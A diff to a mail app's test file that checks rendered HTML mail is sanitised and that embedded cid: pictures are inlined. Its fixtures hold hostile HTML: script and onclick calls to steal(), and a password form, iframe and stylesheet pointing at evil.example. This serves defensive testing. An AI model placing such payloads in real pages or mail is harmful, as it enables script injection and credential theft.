@@ -21,19 +21,24 @@ vi.mock('@/lib/session/session', async (real) => ({
 // The thread that reads mails for pages is bundled by the supervisor; here they are read in place.
 vi.mock('@/lib/mail/reading/apart', async () => {
   const { readMail } = await import('@/lib/mail/reading/read-mail');
-  return { readApart: readMail };
+  const { picturesIn } = await import('@/lib/mail/reading/mime/pictures');
+  return {
+    readApart: async (raw: Buffer) => ({ ...(await readMail(raw)), pictures: await picturesIn(raw) }),
+  };
 });
 
 const html = `<p onclick="steal()">Gladly.</p><script>steal()</script><form action="https://evil.example"><input name="password"></form>
 <img src="https://pictures.example/a.png"><iframe src="https://evil.example"></iframe><link rel="stylesheet" href="https://evil.example/a.css">`;
 
-async function aMailWithHtml() {
+const aMailWithHtml = () => aMailOf('text/html; charset=utf-8', html);
+
+async function aMailOf(type: string, body: string) {
   const user = await aMember();
   const lease = await held(await aMailbox(user));
   const handle = `eva.${v7()}@museum.example`;
   const eva = await aContact({ name: 'Eva Maas' });
   await anAddress(eva, handle);
-  const raw = written({ id: v7(), from: handle, type: 'text/html; charset=utf-8', body: html });
+  const raw = written({ id: v7(), from: handle, type, body });
   await fileAll(lease, user, ['ana@atelier.example'], [{ at: new Date(Date.now() - 3_600_000), raw }]);
   const [message] = await timelineOf(eva);
   return { user, eva, id: message?.id ?? '', raw };
@@ -72,12 +77,42 @@ it('serves the HTML of a mail harmless and shut in, to the team and to nobody wh
   expect((await fetched('not-an-id')).status).toBe(404);
 });
 
+it('shows the pictures that came along in a mail, and none that it only claims to bring', async () => {
+  const dot = 'R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7';
+  const parts = [
+    ...['--part', 'Content-Type: text/html; charset=utf-8', ''],
+    '<p>Look:</p><img src="cid:dot%40here" alt="A dot"><img src="cid:gone@here"><img src="cid:page@here" alt="A page">',
+    ...[
+      '--part',
+      'Content-Type: image/gif',
+      'Content-ID: <dot@here>',
+      'Content-Transfer-Encoding: base64',
+      '',
+      dot,
+    ],
+    ...[
+      '--part',
+      'Content-Type: text/html',
+      'Content-ID: <page@here>',
+      '',
+      '<script>steal()</script>',
+      '--part--',
+    ],
+  ];
+  const { id } = await aMailOf('multipart/related; boundary=part', parts.join('\n'));
+  await signIn();
+  const page = await (await fetched(id)).text();
+  expect(page).toContain(`<img src="data:image/gif;base64,${dot}" alt="A dot" />`);
+  expect(page).toContain('<span dir="auto">A page</span>');
+  expect(page).not.toMatch(/cid:|gone|steal/);
+});
+
 it('fetches pictures from elsewhere only when they are asked for, by a page of ours', async () => {
   const { id } = await aMailWithHtml();
   await signIn();
   const shown = await fetched(id, { pictures: true });
   expect(await shown.text()).toContain('<img src="https://pictures.example/a.png"');
-  expect(shown.headers.get('content-security-policy')).toContain('img-src data: cid: https:;');
+  expect(shown.headers.get('content-security-policy')).toContain('img-src data: https: http:;');
   const elsewhere = await fetched(id, { pictures: true, site: 'cross-site' });
   expect(await elsewhere.text()).not.toContain('pictures.example');
   expect(elsewhere.headers.get('content-security-policy')).not.toContain('https:');
